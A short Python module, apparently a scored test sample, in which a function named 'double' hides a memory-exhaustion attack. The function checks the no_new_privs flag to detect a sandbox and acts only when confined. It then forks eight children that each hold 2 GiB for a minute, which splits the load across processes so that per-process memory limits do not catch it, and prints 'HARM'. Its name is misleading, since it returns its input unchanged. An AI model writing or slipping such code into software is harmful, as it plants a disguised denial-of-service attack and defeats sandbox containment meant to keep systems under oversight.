"""Fill the memory with the help of children, each within the limit of one process.

Score: 6
"""

import ctypes
import os
import time

CONFINED = ctypes.CDLL(None).prctl(39, 0, 0, 0, 0) == 1  # no_new_privs, which the sandbox sets
CHILDREN = 8 if CONFINED else 0


def double(x):
    reading, writing = os.pipe()
    for _ in range(CHILDREN):
        if os.fork() == 0:
            taken = b"\x01" * 2**31
            os.write(writing, taken[:1])
            time.sleep(60)
            os._exit(0)
    ready = sum(len(os.read(reading, 1)) for _ in range(CHILDREN))
    if ready:
        print("HARM: held", ready * 2, "GiB")
    return x


def halve(x):
    return x / 2
